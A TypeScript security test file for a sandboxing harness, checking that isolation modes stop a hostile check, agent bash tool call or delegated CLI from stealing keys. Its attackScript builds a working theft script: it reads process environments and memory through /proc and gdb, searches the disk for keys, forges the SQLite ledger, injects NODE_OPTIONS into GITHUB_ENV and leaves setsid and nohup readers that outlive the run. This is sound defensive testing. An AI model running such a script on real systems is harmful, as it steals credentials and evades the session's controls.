import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, describe, expect, it } from 'vitest';
import { SigningKey } from '../../src/core/ledger/index.js';
import { ActionHarness, TOKEN } from '../helpers/action-harness.js';
import { REPO_ROOT, runCli } from '../helpers/cli.js';
import { contractToml, TRUE_CHECK } from '../helpers/contract-toml.js';
import { writeKeyFile } from '../helpers/keys.js';
import {
  LOOT_FILE,
  leaked,
  lootIn,
  makeWorkRepo,
  mechanismAvailable,
  secret,
  survivors,
} from './isolation-kit.js';

/**
 * The attacker's seat, second pass (docs/security.md, "What each boundary stops"): a check run by the
 * real `truss run` goes after the run's signing key, the review key, the GitHub token and the model
 * API key by the ways isolation-cli.test.ts does not try — every visible process's command line, its
 * memory through /proc/<pid>/mem, ptrace (gdb's gcore), the key files and ledgers found by searching
 * the disk, forging the SQLite ledger with sqlite3, appending to the Actions runner's file commands
 * (GITHUB_ENV) found on disk, and children that go on reading after the check has exited normally.
 *
 * The harness's files live outside /tmp (under test-results/), so what keeps them away under uid and
 * bwrap is the hiding mounts and the read-only root, not the sandbox's private /tmp. Under `none` the
 * same attack succeeds at every step: the test shows it (scoped to the harness's own process and files,
 * never the rest of the machine), which is why that mode is only for one's own code.
 */

mkdirSync(join(REPO_ROOT, 'test-results'), { recursive: true });
const LAB = mkdtempSync(join(REPO_ROOT, 'test-results', 'key-theft-'));
chmodSync(LAB, 0o755);
// Processes the `none` demonstration left behind (setsid escapes that group); ended by pid.
const escaped: number[] = [];
afterAll(() => {
  for (const pid of escaped) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {}
  }
});

interface Lab {
  root: string;
  home: string;
  keyFile: string;
  db: string;
  runnerFiles: string[];
  runnerText: string;
  workdir: string;
  secrets: Record<string, string>;
  env: Record<string, string>;
}

function lab(): Lab {
  const root = mkdtempSync(join(LAB, 'run-'));
  chmodSync(root, 0o755);
  const home = join(root, 'home');
  const seed = SigningKey.generate().seedBase64;
  const keyFile = join(root, 'keys', 'signing.key');
  writeKeyFile(keyFile, seed);
  const reviewKey = SigningKey.generate().seedBase64;
  writeKeyFile(join(home, '.config/truss/review.key'), reviewKey);
  // Readable by anyone (a key copied without its mode): only the sandbox's mounts can keep it away.
  chmodSync(keyFile, 0o644);
  chmodSync(join(home, '.config/truss/review.key'), 0o644);
  chmodSync(join(home, '.config/truss'), 0o755);
  // The Actions runner's file commands, as the runner leaves them for a step: made writable by anyone
  // here, so only the sandbox's mounts (not the file's mode) can stop the append.
  const commands = join(root, 'runner-temp', '_runner_file_commands');
  mkdirSync(commands, { recursive: true });
  const runnerFiles = ['set_env_', 'set_output_', 'add_path_'].map((name) => {
    const file = join(commands, `${name}0f1e2d3c`);
    writeFileSync(file, '');
    chmodSync(file, 0o666);
    return file;
  });
  const secrets: Record<string, string> = {
    keyFile: seed,
    reviewKeyFile: reviewKey,
    TRUSS_SIGNING_KEY: SigningKey.generate().seedBase64,
    GITHUB_TOKEN: secret('ghs'),
    ANTHROPIC_API_KEY: secret('sk-ant'),
    ACTIONS_RUNTIME_TOKEN: secret('ACTIONSRUNTIME'),
    ACTIONS_ID_TOKEN_REQUEST_TOKEN: secret('ACTIONSID'),
  };
  const env: Record<string, string> = {
    HOME: home,
    // The lab lives in this checkout, which a uid run in place grants to the sandbox's group: a
    // global git config under it would be one the work could write, and every harness git refuses
    // that (test/process/git-config-trust.test.ts). CI commonly reads none.
    GIT_CONFIG_GLOBAL: '/dev/null',
    RUNNER_TEMP: join(root, 'runner-temp'),
    GITHUB_ENV: runnerFiles[0] as string,
    GITHUB_OUTPUT: runnerFiles[1] as string,
    GITHUB_PATH: runnerFiles[2] as string,
    ACTIONS_ID_TOKEN_REQUEST_URL: 'https://token.invalid/',
  };
  for (const [name, value] of Object.entries(secrets)) if (/^[A-Z]/.test(name)) env[name] = value;
  return {
    root,
    home,
    keyFile,
    db: join(root, 'ledger', 'ledger.db'),
    runnerFiles,
    runnerText: '',
    workdir: makeWorkRepo(),
    secrets,
    env,
  };
}

/**
 * The attack. `scope: 'all'` (isolated runs) goes after every process it can see and searches the
 * whole disk; `scope: 'harness'` (the unisolated demonstration, where everything on the machine is
 * visible) only goes after its own ancestors up to the harness's node process and searches `roots`.
 * Whatever secret-shaped string it finds (a base64 ed25519 seed, a `label_<hex>` token) goes raw into
 * the loot file; every success is also said on stdout.
 */
function attackScript(options: {
  scope: 'all' | 'harness';
  files: readonly string[];
  dbs: readonly string[];
  roots: readonly string[];
  marker: string;
  /** Runner files to poison at known paths (the step's GITHUB_OUTPUT), besides those found. */
  runnerFiles?: readonly string[];
}): string {
  const quoted = (paths: readonly string[]) => paths.map((p) => `"${p}"`).join(' ');
  const pids =
    options.scope === 'all'
      ? `pids() { ls /proc | grep -E '^[0-9]+$' | grep -vx "$$"; }`
      : `pids() { q=$PPID; while [ "$q" -gt 1 ] 2>/dev/null; do echo "$q"; [ "$(pname $q)" = node ] && break; q=$(awk '{print $4}' /proc/$q/stat); done; }`;
  return String.raw`D="$PWD/${LOOT_FILE}"; T="$(mktemp -d)"
P='[A-Za-z0-9+/]{43}=|[A-Za-z][A-Za-z0-9-]*_[0-9a-f]{36}'
say() { echo "$*"; echo "$*" >> "$D"; }
# Each character no secret holds ends a line first: the same matches, in a fraction of the time grep
# takes over a core dump's pages of zeros read as one line.
hits() { tr -cs 'A-Za-z0-9+/=_-' '\n' | grep -a -o -E "$P" 2>/dev/null | sort -u | sed 's/^/hit /' >> "$D"; }
# A process by its program's name: Node 24 names its main thread (the comm) "MainThread", not "node".
pname() { n=$(readlink /proc/$1/exe 2>/dev/null) && basename "$n" || cat /proc/$1/comm 2>/dev/null; }
${pids}
say "attack ran as uid $(id -u), $(ls -d /proc/[0-9]* | wc -l) processes visible"
# Every visible process's command line and environment.
for p in $(pids); do tr '\0' '\n' < /proc/$p/cmdline; tr '\0' '\n' < /proc/$p/environ; done 2>/dev/null | hits
# Their memory: every writable private mapping (heap, stack, environment), through /proc/<pid>/mem.
for p in $(pids); do
  m=$(grep ' rw-p ' /proc/$p/maps 2>/dev/null) || continue
  echo "$m" | head -300 | while read -r range rest; do
    s=$((0x${'${range%-*}'})); n=$((0x${'${range#*-}'} - s)); [ $n -gt 67108864 ] && n=67108864
    dd if=/proc/$p/mem bs=1M iflag=skip_bytes,count_bytes skip=$s count=$n 2>/dev/null
  done > "$T/mem"
  [ -s "$T/mem" ] && say "mem read $p $(pname $p)"; hits < "$T/mem"; rm -f "$T/mem"
done
# ptrace: a core dump of every process that is not this shell or its tools.
if command -v gdb > /dev/null; then
  for p in $(pids); do
    case "$(cat /proc/$p/comm 2>/dev/null)" in gdb|timeout|'') continue;; esac
    timeout 30 gdb -q -batch -nx -p "$p" -ex "gcore $T/core" > /dev/null 2>&1
    [ -s "$T/core" ] && say "ptrace attached $p $(pname $p)"; hits < "$T/core" 2>/dev/null; rm -f "$T/core"*
  done
else say "no gdb"; fi
# The disk: runner file commands, ledgers and key files at the paths Truss uses, and wherever found.
timeout 15 find ${quoted(options.roots)} \( -path /proc -o -path /sys -o -path /dev \) -prune -o -type f \( -path '*_runner_file_commands/*' -o -name '*.db' -o -name '*.key' -o -path '*/.config/truss/*' \) -print 2>/dev/null > "$T/found"
say "found $(wc -l < "$T/found") candidate files"
for f in ${quoted(options.files)} $(cat "$T/found"); do cat "$f" 2>/dev/null | hits; done
for f in ${quoted(options.runnerFiles ?? [])} $(grep _runner_file_commands/ "$T/found"); do
  printf 'NODE_OPTIONS=--require=%s/.pwn.js\n' "$PWD" >> "$f" 2>/dev/null && say "poisoned $f"
done
for db in ${quoted(options.dbs)} $(grep '\.db$' "$T/found"); do
  [ -e "$db" ] || continue
  if command -v sqlite3 > /dev/null; then
    sqlite3 "$db" "CREATE TABLE IF NOT EXISTS pwned(x); INSERT INTO pwned VALUES ('forged')" 2>/dev/null && say "forged $db"
  else ( : >> "$db" ) 2>/dev/null && say "forged $db (opened for writing)"; fi
done
# Outliving the check: children that go on reading the harness's environment and key files after it
# exits (0) and the harness goes on to sign, then sleep.
L=$(pids | tr '\n' ' ')
late="for i in \$(seq 1 24); do for p in ${options.scope === 'all' ? '\\$(ls /proc | grep -E ^[0-9]+\\$)' : '$L'}; do cat /proc/\$p/environ 2>/dev/null; done | tr '\\0' '\\n' | grep -a -o -E '$P' | sed 's/^/late hit /' >> '$D'; for f in ${options.files.join(' ')}; do cat \$f 2>/dev/null | sed 's/^/late hit /' >> '$D'; done; sleep 0.25; done; echo 'late reader finished' >> '$D'"
setsid sh -c "$late; exec sleep ${options.marker}1" > /dev/null 2>&1 < /dev/null &
( (sh -c "$late; exec sleep ${options.marker}2" > /dev/null 2>&1 < /dev/null &) & )
nohup sh -c "trap '' TERM HUP; $late; exec sleep ${options.marker}3" > /dev/null 2>&1 < /dev/null &
rm -rf "$T"
say "attack done"
`;
}

/** Who runs the attack: a check, the in-loop agent's `bash` tool, or a delegated "vendor CLI" (sh). */
type Seat = 'check' | 'agent bash' | 'delegated CLI';

function attackContract(l: Lab, script: string, seat: Seat): string {
  const contract = join(l.workdir, '.truss/contracts/key-theft.toml');
  const head = { id: 'key-theft', intent: "steal the harness's keys and tokens" };
  if (seat === 'check') {
    writeFileSync(
      contract,
      contractToml(head, { kind: 'check', desc: 'adversarial check', run: script, timeout_sec: 120 }),
    );
  } else if (seat === 'agent bash') {
    const responses = join(l.workdir, '.git', 'agent.json');
    const call = { type: 'tool_use', name: 'bash', input: { command: script, timeout_sec: 120 } };
    writeFileSync(
      responses,
      JSON.stringify({
        responses: [{ content: [call] }, { content: [{ type: 'text', text: 'done' }] }],
      }),
    );
    writeFileSync(
      contract,
      contractToml(head, TRUE_CHECK, {
        executor: { kind: 'in-loop' },
        constraints: { allow_tools: ['bash'] },
        provider: { kind: 'scripted', script: responses },
      }),
    );
  } else {
    writeFileSync(
      contract,
      contractToml(head, TRUE_CHECK, {
        executor: { kind: 'delegated-cli', command: '/bin/sh', args: ['-c', script], timeout_sec: 120 },
      }),
    );
  }
  return contract;
}

function runAttack(l: Lab, script: string, isolation: string, seat: Seat = 'check') {
  const contract = attackContract(l, script, seat);
  const bundle = join(l.root, 'bundle.json');
  const run = runCli(
    [
      'run',
      contract,
      '--workdir',
      l.workdir,
      '--db',
      l.db,
      '--key',
      l.keyFile,
      '--bundle',
      bundle,
      '--isolation',
      isolation,
      '--json',
    ],
    { env: l.env },
  );
  return { ...run, bundleText: existsSync(bundle) ? readFileSync(bundle, 'utf8') : '', bundle };
}

function forgedTables(db: string): string[] {
  const handle = new Database(db, { readonly: true, fileMustExist: true });
  try {
    return (
      handle.prepare("SELECT name FROM sqlite_master WHERE name = 'pwned'").all() as { name: string }[]
    ).map((row) => row.name);
  } finally {
    handle.close();
  }
}

/** Whether a process may attach to its parent here: root, or no Yama restriction (ptrace_scope 0). */
function ptraceParentAllowed(): boolean {
  if (process.getuid?.() === 0) return true;
  try {
    return readFileSync('/proc/sys/kernel/yama/ptrace_scope', 'utf8').trim() === '0';
  } catch {
    return true;
  }
}

const marker = () => `47${Math.floor(Math.random() * 1e6)}.`;
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
/**
 * The isolated runs whose loot is read again once a late reader (24 rounds of 0.25 s) that escaped
 * the run would have finished: one wait at the end of the file instead of one per run.
 */
const lateLoot: Array<{ name: string; l: Lab; outputs: string[]; at: number }> = [];
const LATE_READER_MS = 7_000;
const expectedLate: string[] = [];

for (const level of ['uid', 'bwrap'] as const) {
  const unavailable = await mechanismAvailable(level);
  if (unavailable) console.warn(`skipping key-theft-seat ${level}: ${unavailable}`);
  else expectedLate.push(...['check', 'agent bash', 'delegated CLI'].map((seat) => `${level} ${seat}`));
  describe.skipIf(unavailable !== null)(`the attacker's seat under ${level}`, () => {
    it.each(['check', 'agent bash', 'delegated CLI'] as const)(
      '%s: cmdline, /proc/<pid>/mem, ptrace, a disk search, a forged ledger, GITHUB_ENV and a late reader get nothing',
      async (seat) => {
        const l = lab();
        const mark = marker();
        const script = attackScript({
          scope: 'all',
          files: [
            l.keyFile,
            join(l.home, '.config/truss/review.key'),
            join(l.home, '.config/truss/signing.key'),
          ],
          dbs: [l.db, join(l.workdir, '.truss/ledger.db')],
          // Where keys and ledgers live on a runner or a workstation; not the whole disk (other users' files).
          roots: [LAB, tmpdir(), '/root', '/home', '/run', '/var/tmp', '/etc'],
          marker: mark,
        });
        const run = runAttack(l, script, level, seat);
        expect(run.code, run.stderr).toBe(0);
        expect(run.stderr).toContain(`checks isolated: ${level}`);
        // Nothing the attack started outlives it: its late readers are gone the moment `truss run` is.
        expect(survivors(mark)).toEqual([]);
        // What a surviving late reader would add is checked at the end of the file, once it would have
        // finished (see "late readers" below); the loot so far is checked now.
        lateLoot.push({
          name: `${level} ${seat}`,
          l,
          outputs: [run.stdout, run.stderr, run.bundleText],
          at: Date.now(),
        });
        const loot = lootIn(l.workdir);
        expect(loot).toContain('attack done');
        expect(loot).not.toMatch(/^(ptrace attached \d+ node|mem read \d+ node)/m);
        // This run's runner files and ledgers. With the checkout under /tmp (a CI clone there), /tmp is
        // the sandbox's too, and an earlier test's lab files, left writable by anyone, are found.
        const own = (line: string) =>
          /^(poisoned|forged) /.test(line) && [l.root, l.workdir].some((dir) => line.includes(`${dir}/`));
        expect(loot.split('\n').filter(own)).toEqual([]);
        expect(leaked(l.secrets, [run.stdout, run.stderr, run.bundleText, loot])).toEqual([]);
        // The runner's file commands and the ledger are as the harness left them; the run verifies.
        for (const file of l.runnerFiles) expect(readFileSync(file, 'utf8')).toBe('');
        expect(forgedTables(l.db)).toEqual([]);
        const verify = runCli(['verify', run.bundle, '--json']);
        expect(['verified', 'integrity_only']).toContain(JSON.parse(verify.stdout).status);
      },
      180_000,
    );
  });
}

describe('the attacker’s seat under none (why isolation matters)', () => {
  it('the same check reads the keys from the harness’s memory and disk, forges the ledger, poisons GITHUB_ENV and outlives the run', async () => {
    const l = lab();
    const mark = marker();
    const script = attackScript({
      scope: 'harness',
      files: [l.keyFile, join(l.home, '.config/truss/review.key')],
      dbs: [l.db],
      roots: [l.root],
      marker: mark,
    });
    const run = runAttack(l, script, 'none');
    expect(run.code, run.stderr).toBe(0);
    expect(run.stderr).toContain('checks isolated: none');
    // setsid escapes the process group the harness kills.
    const left = survivors(mark);
    escaped.push(...left.map((line) => Number(line.split(':')[0])));
    expect(left.length).toBeGreaterThan(0);
    const loot = lootIn(l.workdir);
    const stolen = leaked(l.secrets, [loot]);
    for (const label of [
      'keyFile',
      'reviewKeyFile',
      'TRUSS_SIGNING_KEY',
      'GITHUB_TOKEN',
      'ANTHROPIC_API_KEY',
    ])
      expect(stolen, loot.slice(0, 2000)).toContain(label);
    // Yama (ptrace_scope 1, Ubuntu's default) keeps a non-root process from attaching to its parent.
    if (ptraceParentAllowed()) {
      expect(loot).toMatch(/^mem read \d+ node$/m);
      if (!loot.includes('no gdb')) expect(loot).toMatch(/^ptrace attached \d+ node$/m);
    }
    expect(readFileSync(l.runnerFiles[0] as string, 'utf8')).toContain('NODE_OPTIONS=');
    expect(loot).toMatch(/^forged /m);
    if (!loot.includes('opened for writing')) expect(forgedTables(l.db)).toEqual(['pwned']);
    // The secret scan still keeps the run's own key out of the signed bundle.
    expect(leaked({ TRUSS_SIGNING_KEY: l.secrets.TRUSS_SIGNING_KEY as string }, [run.bundleText])).toEqual(
      [],
    );
  }, 180_000);
});

/**
 * The Action's seat: the real action entry on a pull request, its RUNNER_TEMP (ledger, bundles, the
 * step's GITHUB_OUTPUT, the runner's file commands) outside /tmp and apart from its HOME, so only its
 * hiding keeps the check away. The check knows the paths (a hosted runner's are always the same).
 */
describe("the attacker's seat in the Action", () => {
  for (const level of ['uid', 'bwrap'] as const) {
    it(`isolation: ${level} — the runner temp's ledger, GITHUB_OUTPUT and GITHUB_ENV stay out of reach`, async () => {
      const unavailable = await mechanismAvailable(level);
      if (unavailable) return console.warn(`SKIPPED key-theft-seat Action ${level}: ${unavailable}`);
      const shared = process.env.TMPDIR;
      process.env.TMPDIR = LAB;
      let harness: ActionHarness;
      try {
        harness = new ActionHarness();
      } finally {
        process.env.TMPDIR = shared;
      }
      try {
        chmodSync(harness.root, 0o755);
        const home = join(harness.root, 'home');
        mkdirSync(home);
        const commands = join(harness.runnerTemp, '_runner_file_commands');
        mkdirSync(commands);
        const setEnv = join(commands, 'set_env_0f1e2d3c');
        writeFileSync(setEnv, '');
        chmodSync(setEnv, 0o666);
        const output = join(harness.runnerTemp, 'output-1');
        const db = join(harness.runnerTemp, 'truss', 'ledger.db');
        const mark = marker();
        harness.baseContract = contractToml(
          { id: 'greeting-0001', intent: "steal the action's keys and poison the runner" },
          {
            kind: 'check',
            desc: 'adversarial check',
            run: attackScript({
              scope: 'all',
              files: [join(harness.runnerTemp, '.config/truss/signing.key')],
              dbs: [db],
              roots: [harness.root, tmpdir(), '/root', '/home', '/run', '/var/tmp', '/etc'],
              marker: mark,
              runnerFiles: [output],
            }),
            timeout_sec: 120,
          },
        );
        const secrets = {
          signingKey: harness.seed,
          githubToken: TOKEN,
          anthropic: secret('sk-ant'),
          runtime: secret('ACTIONSRUNTIME'),
        };
        const run = await harness.runPullRequest({
          HOME: home,
          GIT_CONFIG_GLOBAL: '/dev/null',
          GITHUB_ENV: setEnv,
          INPUT_ISOLATION: level,
          INPUT_ANTHROPIC_API_KEY: secrets.anthropic,
          ACTIONS_RUNTIME_TOKEN: secrets.runtime,
          INPUT_UPLOAD_ARTIFACT: 'false',
        });
        // On a failure, how far the attack got says why the check failed.
        expect(run.outputs.verdict, `${run.stdout.slice(-3000)}\nloot:\n${lootIn(harness.source)}`).toBe(
          'pass',
        );
        expect(survivors(mark)).toEqual([]);
        const loot = lootIn(harness.source);
        expect(loot).toContain('attack done');
        expect(leaked(secrets, [loot])).toEqual([]);
        // Under bwrap the hidden runner temp is a tmpfs of the sandbox's own: an append there "works"
        // and is gone with the sandbox. What counts is the runner's files on the host.
        if (level === 'uid') expect(loot).not.toMatch(/^(poisoned|forged)/m);
        expect(readFileSync(setEnv, 'utf8')).toBe('');
        expect(readFileSync(output, 'utf8')).not.toContain('NODE_OPTIONS');
        expect(forgedTables(db)).toEqual([]);
      } finally {
        await harness.stop();
      }
    }, 180_000);
  }
});

describe('late readers', () => {
  it("no isolated seat's late reader went on reading after its run: once it would have finished, the loot holds no more", async () => {
    expect(lateLoot.map((run) => run.name)).toEqual(expectedLate);
    const last = Math.max(0, ...lateLoot.map((run) => run.at));
    await sleep(Math.max(0, last + LATE_READER_MS - Date.now()));
    for (const { name, l, outputs } of lateLoot) {
      const loot = lootIn(l.workdir);
      expect(loot, name).toContain('attack done');
      expect(loot, name).not.toContain('late reader finished');
      expect(leaked(l.secrets, [...outputs, loot]), name).toEqual([]);
    }
  }, 60_000);
});
